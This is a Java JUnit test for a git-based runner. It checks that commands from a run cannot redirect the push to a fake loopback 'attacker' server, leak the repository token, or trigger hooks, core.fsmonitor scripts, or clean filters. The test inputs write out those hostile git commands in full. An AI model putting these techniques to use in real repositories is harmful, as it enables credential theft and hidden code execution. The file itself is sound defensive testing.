package dev.agentcenter.runner.run;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.test.context.TestPropertySource;
import tools.jackson.databind.JsonNode;

/**
 * Issue 12, finding 5: a run's own commands own the workspace, {@code .git} included. They point {@code origin} at a
 * server of theirs, install hooks and set {@code core.fsmonitor}; the runner's fetch, commit and push that follow must
 * still go to the remote computed from {@code RUNNER_GIT_BASE_URL}, run none of those programs, and never hand the
 * repository token to anyone else. {@code RUNNER_SANDBOX=none}: the runner's git must hold without a sandbox, and
 * the commands here leave markers outside their workspace for the test to find, which a sandbox would refuse.
 */
@TestPropertySource(properties = "agent-center.sandbox.mode=none")
class GitHardeningTest extends RunnerFixture {

    private HttpServer attacker;
    private final List<String> attackerRequests = new CopyOnWriteArrayList<>();
    private Path markers;

    /** A server that asks for credentials like GitHub does and records everything it is sent. */
    @BeforeEach
    void attackerServer() throws IOException {
        markers = Files.createTempDirectory("hostile-markers");
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            attackerRequests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI() + " Authorization="
                    + exchange.getRequestHeaders().getFirst("Authorization"));
            exchange.getResponseHeaders().add("WWW-Authenticate", "Basic realm=\"attacker\"");
            exchange.sendResponseHeaders(401, -1);
            exchange.close();
        });
        attacker.start();
    }

    @AfterEach
    void stopAttacker() {
        attacker.stop(0);
    }

    @Test
    void aCommandThatRewritesOriginAndInstallsHooksCannotStealTheTokenOrRunAnything() throws Exception {
        String token = "ghp_" + "H0st1l3W0rksp4c3T0k3nH0st1l3W0rks00";
        String repo = "hostile-" + UUID.randomUUID().toString().substring(0, 8);
        UUID task = taskOn(repository("acme", repo, token), "agent/hostile", "main");
        String evil = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/acme/" + repo + ".git";

        Handle run = queue(
                task, config(List.of(command(hostileCommand(evil) + " && echo one >> README.md")), "One", null, null));
        execute(run);
        awaitStatus(run, "completed");

        List<JsonNode> events = events(run);
        assertThat(types(events)).containsSubsequence("git.commit.created", "git.branch.pushed", "run.completed");
        String sha = payload(events, "git.commit.created").get("sha").asString();
        Path bare = REMOTES.resolve("acme").resolve(repo + ".git");
        assertThat(gitText(bare, "rev-parse", "refs/heads/agent/hostile"))
                .as("the push went to the pinned remote")
                .isEqualTo(sha);
        assertThat(attackerRequests)
                .as("the attacker's server was never contacted")
                .isEmpty();
        assertThat(markerFiles()).as("no hook and no fsmonitor ran").isEmpty();
        Path workspace = Path.of(column(run, "workspace_path"));
        assertThat(gitText(workspace, "config", "branch.agent/hostile.remote")).isEqualTo("origin");
        assertThat(gitText(workspace, "rev-parse", "refs/remotes/origin/agent/hostile"))
                .isEqualTo(sha);

        // A follow-up fetches before its commands run: from the pinned remote too, with the same programs off.
        Handle followUp = queue(task, config(List.of(command("echo two >> README.md")), "Two", null, null));
        execute(followUp);
        awaitStatus(followUp, "completed");

        String second =
                payload(events(followUp), "git.commit.created").get("sha").asString();
        assertThat(gitText(bare, "rev-parse", "refs/heads/agent/hostile")).isEqualTo(second);
        assertThat(attackerRequests).isEmpty();
        assertThat(markerFiles()).isEmpty();
    }

    @Test
    void gitConfigThatCannotBeOverriddenStopsTheDeliveryAndIsRemovedBeforeTheNextRun() throws Exception {
        String token = "ghp_" + "F1lt3rW0rksp4c3T0k3nF1lt3rW0rksp4c00";
        String repo = "filtered-" + UUID.randomUUID().toString().substring(0, 8);
        UUID task = taskOn(repository("acme", repo, token), "agent/filtered", "main");
        String evil = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/acme/" + repo + ".git";
        String pinned = REMOTES.toUri() + "acme/" + repo + ".git";

        Handle run = queue(
                task,
                config(
                        List.of(command(String.join(
                                " && ",
                                "printf '#!/bin/sh\\nenv > " + markers + "/clean\\ncat\\n' > " + markers + "/clean.sh",
                                "chmod +x " + markers + "/clean.sh",
                                "git config filter.evil.clean " + markers + "/clean.sh",
                                "echo '* filter=evil' > .gitattributes",
                                "git config url." + evil + ".insteadOf " + pinned,
                                "echo one >> README.md"))),
                        "One",
                        null,
                        null));
        execute(run);
        awaitStatus(run, "failed");

        assertThat(column(run, "error_code")).isEqualTo("unsafe_git_config");
        assertThat(column(run, "error_message"))
                .contains("filter.evil.clean")
                .contains("url." + evil + ".insteadof")
                .contains("What to do:");
        List<JsonNode> events = events(run);
        assertThat(types(events)).doesNotContain("git.commit.created", "git.branch.pushed");
        JsonNode refused = payload(events, "git.config.unsafe");
        assertThat(refused.get("action").asString()).isEqualTo("refused");
        assertThat(refused.get("keys").toString()).contains("filter.evil.clean");
        Path bare = REMOTES.resolve("acme").resolve(repo + ".git");
        assertThat(gitExit(bare, "rev-parse", "--verify", "--quiet", "refs/heads/agent/filtered"))
                .as("nothing pushed")
                .isNotZero();
        assertThat(attackerRequests).isEmpty();
        assertThat(markerFiles()).as("the filter never ran").isEmpty();

        // The next run of the task gets the runner's repository back before its commands start.
        Handle followUp = queue(task, config(List.of(command("echo two >> README.md")), "Two", null, null));
        execute(followUp);
        awaitStatus(followUp, "completed");

        List<JsonNode> later = events(followUp);
        assertThat(types(later))
                .containsSubsequence(
                        "git.config.unsafe", "run.command.started", "git.commit.created", "git.branch.pushed");
        JsonNode removed = payload(later, "git.config.unsafe");
        assertThat(removed.get("action").asString()).isEqualTo("removed");
        assertThat(removed.get("keys").toString()).contains("filter.evil.clean").contains("insteadof");
        assertThat(gitText(bare, "rev-parse", "refs/heads/agent/filtered"))
                .isEqualTo(payload(later, "git.commit.created").get("sha").asString());
        assertThat(attackerRequests).isEmpty();
        assertThat(markerFiles()).isEmpty();
    }

    /**
     * Points origin (fetch and push URL) at {@code evil}, installs every hook the runner's git calls could trigger, and
     * sets {@code core.fsmonitor}; each program writes a marker file (and what it could see) if it ever runs.
     */
    private String hostileCommand(String evil) {
        String hooks = String.join(
                " ",
                "pre-push",
                "pre-commit",
                "prepare-commit-msg",
                "commit-msg",
                "post-commit",
                "post-checkout",
                "post-rewrite",
                "reference-transaction",
                "pre-auto-gc",
                "post-index-change");
        return String.join(
                " && ",
                "git remote set-url origin " + evil,
                "git remote set-url --push origin " + evil,
                "for h in " + hooks + "; do printf '#!/bin/sh\\nenv > " + markers + "/hook-%s\\n' $h > .git/hooks/$h;"
                        + " chmod +x .git/hooks/$h; done",
                "printf '#!/bin/sh\\nenv > " + markers + "/fsmonitor\\n' > " + markers + "/fsmonitor.sh",
                "chmod +x " + markers + "/fsmonitor.sh",
                "git config core.fsmonitor " + markers + "/fsmonitor.sh");
    }

    private List<Path> markerFiles() throws IOException {
        try (Stream<Path> files = Files.list(markers)) {
            return files.filter(file -> !file.getFileName().toString().endsWith(".sh"))
                    .toList();
        }
    }

    private static JsonNode payload(List<JsonNode> events, String type) {
        return events.stream()
                .filter(e -> e.get("event_type").asString().equals(type))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no " + type + " in " + types(events)))
                .get("payload");
    }

    private static int gitExit(Path directory, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("git"));
        command.addAll(List.of(args));
        return new ProcessBuilder(command)
                .directory(directory.toFile())
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start()
                .waitFor();
    }

    private static String gitText(Path directory, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("git"));
        command.addAll(List.of(args));
        Process process = new ProcessBuilder(command)
                .directory(directory.toFile())
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
        String output = new String(process.getInputStream().readAllBytes()).strip();
        assertThat(process.waitFor()).as("git %s", String.join(" ", args)).isZero();
        return output;
    }
}
